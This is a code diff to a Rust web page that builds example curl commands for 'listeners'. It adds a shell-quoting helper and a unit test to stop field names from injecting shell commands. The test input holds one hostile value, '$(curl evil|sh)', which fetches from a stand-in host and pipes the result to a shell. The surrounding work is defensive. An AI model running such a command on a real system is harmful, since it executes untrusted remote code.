@@ -19,6 +19,12 @@ use crate::types::{
     listener_endpoint, scope_label,
 };
 
+/// `text` as one single-quoted shell word: a `'` inside closes the quote, is escaped, and
+/// reopens it, so a copied example never runs what a field name holds.
+fn shell_quoted(text: &str) -> String {
+    format!("'{}'", text.replace('\'', r"'\''"))
+}
+
 /// What a listener does, in a few words.
 fn does(l: &ListenerView) -> String {
     match l.kind {
@@ -235,7 +241,12 @@ pub fn ListenerPage() -> impl IntoView {
                         let id = l.as_ref().map(|l| l.id).unwrap_or_default();
                         let jira = format!("{endpoint}?find=VALUE&apiKey=YOUR_API_KEY");
                         let body = match l.as_ref() {
-                            Some(l) if l.kind == ListenerKind::Comment => format!(" -H 'Content-Type: application/json' -d '{{\"{}\": \"pm@example.com\", \"{}\": \"Shipped in 2.1\"}}'", l.author_field, l.comment_field),
+                            Some(l) if l.kind == ListenerKind::Comment => {
+                                let mut example = serde_json::Map::new();
+                                example.insert(l.author_field.clone(), "pm@example.com".into());
+                                example.insert(l.comment_field.clone(), "Shipped in 2.1".into());
+                                format!(" -H 'Content-Type: application/json' -d {}", shell_quoted(&serde_json::Value::Object(example).to_string()))
+                            }
                             Some(l) if l.kind == ListenerKind::Data => " -H 'Content-Type: application/json' -d '{\"parameter\": \"value\"}'".to_string(),
                             _ => String::new(),
                         };
@@ -244,7 +255,7 @@ pub fn ListenerPage() -> impl IntoView {
                             Some(l) if l.scope == "feedback" => "42",
                             _ => "jim@example.com",
                         };
-                        let curl = format!("curl -X POST '{endpoint}?find={example_find}' -H 'X-Api-Key: YOUR_API_KEY'{body}");
+                        let curl = format!("curl -X POST {} -H 'X-Api-Key: YOUR_API_KEY'{body}", shell_quoted(&format!("{endpoint}?find={example_find}")));
                         let what = if l.as_ref().is_some_and(|l| l.scope == "feedback") { "ticket" } else { "user" };
                         view! {
                             <Title text=title.clone()/>
@@ -446,5 +457,17 @@ fn ListenerEditor(opts: ListenerFormOptions, kind: ListenerKind) -> impl IntoVie
                 <a class=BUTTON_SECONDARY href="/listeners">"Cancel"</a>
             </div>
         </ActionForm>
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    #[test]
+    fn examples_quote_what_a_field_name_holds_for_the_shell() {
+        assert_eq!(super::shell_quoted("plain"), "'plain'");
+        assert_eq!(
+            super::shell_quoted("a'$(curl evil|sh)'"),
+            r#"'a'\''$(curl evil|sh)'\'''"#
+        );
     }
 }
